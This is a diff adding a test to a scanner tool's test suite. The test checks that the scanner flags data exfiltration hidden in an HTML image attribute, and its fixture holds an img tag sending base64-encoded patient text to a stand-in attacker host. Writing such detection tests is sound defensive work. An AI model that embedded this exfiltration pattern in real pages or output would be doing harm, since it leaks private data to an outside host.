@@ -1,5 +1,6 @@
 """`curtilage scan`, as a user runs it: streams, files, baselines, and exit codes that scripts trust."""
 
+import base64
 import json
 import os
 import signal
@@ -289,6 +290,19 @@ def test_rules_of_ones_own_find_and_allow_and_a_bad_one_is_told_of(shell: Shell)
     )
     assert (both.returncode, both.stdout) == (5, good.stdout)
     assert "bad.toml: The pattern of A_TYPE does not compile." in both.stderr
+
+
+def test_an_address_in_an_attribute_that_carries_data_is_found_at_its_place(shell: Shell) -> None:
+    said = base64.b64encode(b"the patient said that she moves to Lyon").decode()
+    shell.write(
+        "page.html",
+        f"""<html><body><p>Hello</p>
+<p>and <img alt="a chart" src="https://evil.example/p.png?x={said}"> more</p>
+<p>a <a href="https://good.example/a?page=2">link</a></p></body></html>""",
+    )
+    done = shell.scan("page.html", "--no-names", "--hostile", "--format", "json")
+    (found,) = json.loads(done.stdout)["findings"]
+    assert (found["type"], found["line"]) == ("EXFILTRATION", 2)
 
 
 def test_hostile_text_is_looked_for_when_asked(shell: Shell) -> None:
